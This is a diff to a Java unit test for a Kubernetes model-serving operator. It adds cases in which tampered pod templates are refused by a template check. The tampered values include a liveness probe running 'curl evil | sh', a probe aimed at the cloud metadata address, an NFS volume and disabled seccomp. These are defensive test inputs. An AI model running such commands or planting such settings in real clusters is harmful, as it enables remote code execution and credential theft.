@@ -10,13 +10,16 @@ import dev.fledge.api.spec.ServerSpec;
 import dev.fledge.api.status.ServingStatus;
 import io.fabric8.kubernetes.api.model.ContainerBuilder;
 import io.fabric8.kubernetes.api.model.EnvVar;
+import io.fabric8.kubernetes.api.model.ExecAction;
 import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
 import io.fabric8.kubernetes.api.model.PodTemplateSpec;
+import io.fabric8.kubernetes.api.model.Sysctl;
 import io.fabric8.kubernetes.api.model.VolumeBuilder;
 import io.fabric8.kubernetes.api.model.VolumeMount;
 import io.fabric8.kubernetes.client.utils.Serialization;
 import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.function.Consumer;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
@@ -28,6 +31,7 @@ import org.junit.jupiter.params.provider.MethodSource;
 class KeptTemplateCheckTest {
     static final ServerDefaults DEFAULTS = new ServerDefaults("registry.example.com/models/server:1", 8080);
     static final PodHardening HARDENING = PodHardening.standard();
+    static final DesiredDeployment OPERATOR = new DesiredDeployment(DEFAULTS, HARDENING);
     final ModelRelease mr = release();
     final ServingStatus recorded = new ServingConfig(DEFAULTS).of(mr);
 
@@ -38,7 +42,9 @@ class KeptTemplateCheckTest {
                     .build(mr, Labels.TRACK_STABLE, recorded, 2)
                     .getSpec()
                     .getTemplate();
-            assertThat(KeptTemplateCheck.refusal(t, recorded, HARDENING)).isEmpty();
+            assertThat(KeptTemplateCheck.refusal(
+                            t, recorded, OPERATOR.operatorEnvValues("assistant", recorded), HARDENING))
+                    .isEmpty();
         }
     }
 
@@ -105,6 +111,105 @@ class KeptTemplateCheckTest {
                                 .add(new EnvVar("FLEDGE_FEEDBACK_SIGNING_KEY_FILE", "/data/mine", null)),
                         "FLEDGE_FEEDBACK_SIGNING_KEY_FILE is set twice"),
                 edit(
+                        "a raised download cap (review MED 1: FLEDGE_* passed at any value)",
+                        t -> setEnv(t, "FLEDGE_MODEL_MAX_DOWNLOAD_SIZE", "999T"),
+                        "FLEDGE_MODEL_MAX_DOWNLOAD_SIZE is not the value this operator sets (20G)"),
+                edit(
+                        "another public port",
+                        t -> setEnv(t, "FLEDGE_PUBLIC_PORT", "9999"),
+                        "FLEDGE_PUBLIC_PORT is not the value"),
+                edit(
+                        "a FLEDGE_ setting the operator never sets",
+                        t -> container(t).getEnv().add(new EnvVar("FLEDGE_MODEL_ALLOW_INSECURE", "true", null)),
+                        "FLEDGE_MODEL_ALLOW_INSECURE is not one a release or the operator sets"),
+                edit(
+                        "a checksum the recorded model does not name",
+                        t -> container(t).getEnv().add(new EnvVar("FLEDGE_MODEL_SHA256", "00", null)),
+                        "FLEDGE_MODEL_SHA256 is not one a release or the operator sets"),
+                edit(
+                        "another release's key",
+                        t -> t.getSpec().getVolumes().stream()
+                                .filter(v -> v.getName().equals("fledge-feedback-key"))
+                                .forEach(v -> v.getSecret().setSecretName("billing-feedback-key")),
+                        "not the release's key Secret assistant-feedback-key"),
+                edit(
+                        "an NFS volume",
+                        t -> t.getSpec()
+                                .getVolumes()
+                                .add(new VolumeBuilder()
+                                        .withName("share")
+                                        .withNewNfs()
+                                        .withServer("10.0.0.1")
+                                        .withPath("/")
+                                        .endNfs()
+                                        .build()),
+                        "template.spec.volumes[1].nfs"),
+                edit(
+                        "a projected token",
+                        t -> t.getSpec()
+                                .getVolumes()
+                                .add(new VolumeBuilder()
+                                        .withName("token")
+                                        .withNewProjected()
+                                        .addNewSource()
+                                        .withNewServiceAccountToken()
+                                        .withPath("t")
+                                        .endServiceAccountToken()
+                                        .endSource()
+                                        .endProjected()
+                                        .build()),
+                        "projected"),
+                edit(
+                        "a host port",
+                        t -> container(t).getPorts().get(0).setHostPort(80),
+                        "template.spec.containers[0].ports[0].hostPort"),
+                edit(
+                        "an exec probe",
+                        t -> container(t)
+                                .getLivenessProbe()
+                                .setExec(new ExecAction(List.of("sh", "-c", "curl evil | sh"))),
+                        "livenessProbe.exec"),
+                edit(
+                        "a probe sent to another host",
+                        t -> container(t).getReadinessProbe().getHttpGet().setHost("169.254.169.254"),
+                        "readinessProbe.httpGet.host"),
+                edit(
+                        "a sysctl",
+                        t -> t.getSpec().getSecurityContext().setSysctls(List.of(new Sysctl("kernel.msgmax", "65536"))),
+                        "securityContext.sysctls"),
+                edit("a runtime class", t -> t.getSpec().setRuntimeClassName("unsandboxed"), "runtimeClassName"),
+                edit(
+                        "a shared process namespace",
+                        t -> t.getSpec().setShareProcessNamespace(true),
+                        "shareProcessNamespace"),
+                edit(
+                        "seccomp off",
+                        t -> t.getSpec()
+                                .getSecurityContext()
+                                .getSeccompProfile()
+                                .setType("Unconfined"),
+                        "seccomp"),
+                edit(
+                        "capabilities kept",
+                        t -> container(t).getSecurityContext().getCapabilities().setDrop(List.of()),
+                        "capabilities"),
+                edit("another scheduler", t -> t.getSpec().setSchedulerName("mine"), "scheduler"),
+                edit(
+                        "an ephemeral claim with an empty storage class",
+                        t -> t.getSpec()
+                                .getVolumes()
+                                .add(new VolumeBuilder()
+                                        .withName("scratch")
+                                        .withNewEphemeral()
+                                        .withNewVolumeClaimTemplate()
+                                        .withNewSpec()
+                                        .withStorageClassName("")
+                                        .endSpec()
+                                        .endVolumeClaimTemplate()
+                                        .endEphemeral()
+                                        .build()),
+                        "storageClassName: empty"),
+                edit(
                         "a cloud role",
                         t -> t.getMetadata().getAnnotations().put("iam.amazonaws.com/role", "admin"),
                         "iam.amazonaws.com/role"));
@@ -122,8 +227,99 @@ class KeptTemplateCheckTest {
         }
         change.accept(t);
 
-        assertThat(KeptTemplateCheck.refusal(t, recorded, HARDENING))
+        assertThat(KeptTemplateCheck.refusal(t, recorded, OPERATOR.operatorEnvValues("assistant", recorded), HARDENING))
                 .hasValueSatisfying(why -> assertThat(why).contains(reason));
+    }
+
+    @Test
+    void aTemplateAsTheApiServerStoresItOrAnOlderRevisionBuiltItPasses() {
+        PodTemplateSpec stored = Serialization.clone(new DesiredDeployment(DEFAULTS)
+                .build(mr, Labels.TRACK_STABLE, recorded, 2)
+                .getSpec()
+                .getTemplate());
+        // what a real API server fills in when it stores the Deployment
+        stored.getSpec().setRestartPolicy("Always");
+        stored.getSpec().setDnsPolicy("ClusterFirst");
+        stored.getSpec().setSchedulerName("default-scheduler");
+        container(stored).setTerminationMessagePath("/dev/termination-log");
+        container(stored).setTerminationMessagePolicy("File");
+        container(stored).setImagePullPolicy("IfNotPresent");
+        container(stored).getReadinessProbe().setTimeoutSeconds(1);
+        container(stored).getReadinessProbe().setSuccessThreshold(1);
+        container(stored).getReadinessProbe().getHttpGet().setScheme("HTTP");
+        assertThat(KeptTemplateCheck.refusal(
+                        stored, recorded, OPERATOR.operatorEnvValues("assistant", recorded), HARDENING))
+                .isEmpty();
+
+        // before revision 2 and 3: no key, no public port, no limits
+        PodTemplateSpec older = Serialization.clone(stored);
+        container(older)
+                .getEnv()
+                .removeIf(e -> e.getName().startsWith("FLEDGE_MODEL_MAX_")
+                        || e.getName().equals("FLEDGE_PUBLIC_PORT")
+                        || e.getName().equals("FLEDGE_FEEDBACK_SIGNING_KEY_FILE"));
+        container(older).getVolumeMounts().clear();
+        older.getSpec().getVolumes().clear();
+        container(older).getPorts().remove(1);
+        assertThat(KeptTemplateCheck.refusal(
+                        older, recorded, OPERATOR.operatorEnvValues("assistant", recorded), HARDENING))
+                .isEmpty();
+    }
+
+    /**
+     * A template kept from before the operator's download limits were raised holds lower ones: no higher than the
+     * operator's, it may be restored; a higher one is refused (the rows above).
+     */
+    @Test
+    void aLimitBelowTheOperatorsIsRestoredOneAboveIsNot() {
+        Map<String, String> raised = new DesiredDeployment(
+                        DEFAULTS, HARDENING, new ModelServerLimits("100G", "200G", 20_000, 200))
+                .operatorEnvValues("assistant", recorded);
+        PodTemplateSpec builtBefore = Serialization.clone(
+                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
+        assertThat(KeptTemplateCheck.refusal(builtBefore, recorded, raised, HARDENING))
+                .isEmpty();
+
+        setEnv(builtBefore, "FLEDGE_MODEL_MAX_EXTRACTED_SIZE", "1T");
+        assertThat(KeptTemplateCheck.refusal(builtBefore, recorded, raised, HARDENING))
+                .hasValueSatisfying(why -> assertThat(why).contains("FLEDGE_MODEL_MAX_EXTRACTED_SIZE"));
+    }
+
+    @Test
+    void theTenantsOwnEnvPassesAsTheSpecCheckLetsItButNotTheModelsChecksumDropped() {
+        ModelRelease withEnv = release();
+        withEnv.getSpec().getModel().setSha256("a".repeat(64));
+        withEnv.getSpec()
+                .getServer()
+                .setTemplate(new io.fabric8.kubernetes.api.model.PodTemplateSpecBuilder()
+                        .withNewSpec()
+                        .addNewContainer()
+                        .withName(ServerDefaults.CONTAINER)
+                        .addNewEnv()
+                        .withName("FLEDGE_SERVING_MAX_CONCURRENCY")
+                        .withValue("4")
+                        .endEnv()
+                        .addNewEnv()
+                        .withName("LOG_LEVEL")
+                        .withValue("debug")
+                        .endEnv()
+                        .endContainer()
+                        .endSpec()
+                        .build());
+        ServingStatus serving = new ServingConfig(DEFAULTS).of(withEnv);
+        PodTemplateSpec t = Serialization.clone(OPERATOR.build(withEnv, Labels.TRACK_STABLE, serving, 2)
+                .getSpec()
+                .getTemplate());
+        assertThat(KeptTemplateCheck.refusal(t, serving, OPERATOR.operatorEnvValues("assistant", serving), HARDENING))
+                .isEmpty();
+
+        container(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_MODEL_SHA256"));
+        assertThat(KeptTemplateCheck.refusal(t, serving, OPERATOR.operatorEnvValues("assistant", serving), HARDENING))
+                .hasValueSatisfying(why -> assertThat(why).contains("FLEDGE_MODEL_SHA256 is missing"));
+    }
+
+    private static void setEnv(PodTemplateSpec t, String name, String value) {
+        container(t).getEnv().stream().filter(e -> e.getName().equals(name)).forEach(e -> e.setValue(value));
     }
 
     private static Arguments edit(String what, Consumer<PodTemplateSpec> change, String reason) {
